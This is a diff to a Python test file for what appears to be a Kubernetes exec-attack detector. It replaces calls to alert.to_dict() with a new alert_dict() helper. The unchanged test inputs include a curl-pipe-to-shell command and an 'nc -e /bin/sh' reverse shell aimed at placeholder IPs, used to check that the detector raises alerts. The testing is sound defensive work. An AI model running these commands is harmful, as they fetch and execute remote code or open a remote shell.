@@ -13,6 +13,7 @@ from execguard.engine.correlate import silent_rules
 from execguard.engine.match import Engine
 from execguard.engine.sigma import procedure_tags
 from execguard.model import severity_rank
+from execguard.report.alert_json import alert_dict
 from execguard.sources.reader import Reader
 from rules_builder import (
     HUMAN,
@@ -274,7 +275,7 @@ def test_multi_stage_exec_is_one_alert(tmp_path: Path) -> None:
 def test_human_ls_is_low_or_medium(tmp_path: Path) -> None:
     for ev in (ls(), ls(verb="get", space="%20"), exec_event("shop", "web", ["ls"], tty=True, stdin=True)):
         [alert] = hunt_events(tmp_path, [ev])
-        assert severity_rank(alert.severity) <= severity_rank("medium"), alert.to_dict()["rules"]
+        assert severity_rank(alert.severity) <= severity_rank("medium"), alert_dict(alert)["rules"]
 
 
 def test_interactive_shell_by_human_is_medium(tmp_path: Path) -> None:
@@ -288,7 +289,7 @@ def test_miner_download_through_exec_is_critical(tmp_path: Path) -> None:
     [alert] = hunt_events(tmp_path, [ev])
     assert alert.severity == "critical"
     assert {"cmd-miner", "cmd-download-pipe-shell", "k8s-exec-api"} <= rule_ids(alert)
-    assert "S0599 Kinsing" in alert.to_dict()["procedures"]
+    assert "S0599 Kinsing" in alert_dict(alert)["procedures"]
 
 
 def test_kinsing_create_time_entrypoint(tmp_path: Path) -> None:
@@ -297,7 +298,7 @@ def test_kinsing_create_time_entrypoint(tmp_path: Path) -> None:
     assert alert.event.action == "create"
     assert alert.severity == "critical"
     assert {"cmd-download-pipe-shell", "cmd-package-install", "k8s-create-shell-command"} <= rule_ids(alert)
-    assert "S0599 Kinsing" in alert.to_dict()["procedures"]
+    assert "S0599 Kinsing" in alert_dict(alert)["procedures"]
 
 
 def test_base64_hidden_payload_is_seen(tmp_path: Path) -> None:
@@ -311,7 +312,7 @@ def test_anonymous_kubelet_run_is_critical_hildegard(tmp_path: Path) -> None:
     ev = kubelet_event("node-1", "run/shop/web/app", [("cmd", "curl -s http://203.0.113.7/tmate | sh")], **ANON)
     [alert] = hunt_events(tmp_path, [ev])
     assert alert.severity == "critical"
-    assert "S0601 Hildegard" in alert.to_dict()["procedures"]
+    assert "S0601 Hildegard" in alert_dict(alert)["procedures"]
     assert {"k8s-kubelet-anonymous", "k8s-kubelet-exec"} <= rule_ids(alert)
 
 
@@ -321,12 +322,12 @@ def test_peirates_style_exec_is_high(tmp_path: Path) -> None:
                     user_agent="Go-http-client/1.1", verb="get")
     [alert] = hunt_events(tmp_path, [ev])
     assert alert.severity == "high"
-    assert "S0683 Peirates" in alert.to_dict()["procedures"]
+    assert "S0683 Peirates" in alert_dict(alert)["procedures"]
 
 
 def test_reasons_are_rendered(tmp_path: Path) -> None:
     [alert] = hunt_events(tmp_path, [sh("nc -e /bin/sh 203.0.113.9 4444", user=HUMAN)])
-    reasons = alert.to_dict()["reasons"]
+    reasons = alert_dict(alert)["reasons"]
     assert reasons[0].startswith("exec in shop/web-7d9c")
     assert "nc -e /bin/sh" in reasons[0]
     assert not any("{" in r for r in reasons)
@@ -346,7 +347,7 @@ def test_falco_exec_and_attach_samples_alert(data: Path) -> None:
 def test_falco_other_samples_do_not_alert_above_low(data: Path) -> None:
     others = [p for p in (data / "falco").glob("*.json") if p.name not in ("exec_pod.json", "attach_pod.json", ROLE_SAMPLE)]
     alerts = hunt(others)
-    assert all(severity_rank(a.severity) <= severity_rank("low") for a in alerts), [a.to_dict()["rules"] for a in alerts]
+    assert all(severity_rank(a.severity) <= severity_rank("low") for a in alerts), [alert_dict(a)["rules"] for a in alerts]
 
 
 ROLE_SAMPLE = "create_cluster_role_pod_exec.json"
@@ -374,7 +375,7 @@ def test_prefilter_does_not_change_results(tmp_path: Path, data: Path) -> None:
     with_filter = hunt([tmp_path])
     engine = Engine(builtin_rules())
     without = list(engine.run(Reader(literals=None).read([str(tmp_path)])))
-    assert [a.to_dict() for a in with_filter] == [a.to_dict() for a in without]
+    assert [alert_dict(a) for a in with_filter] == [alert_dict(a) for a in without]
     assert len(with_filter) == 6
 
 
@@ -391,7 +392,7 @@ def test_hook_and_probe_commands_are_create_time_commands(hook: str, tmp_path: P
     assert alert.event.action == "create" and alert.event.command_origin == hook
     assert alert.severity == "critical" and "cmd-download-pipe-shell" in rule_ids(alert)
     assert f"[{hook}]" in alert.lead.reason or any(f"[{hook}]" in m.reason for m in alert.matches)
-    assert alert.to_dict()["command_origin"] == hook
+    assert alert_dict(alert)["command_origin"] == hook
 
 
 def test_plain_probes_do_not_alert(tmp_path: Path) -> None:
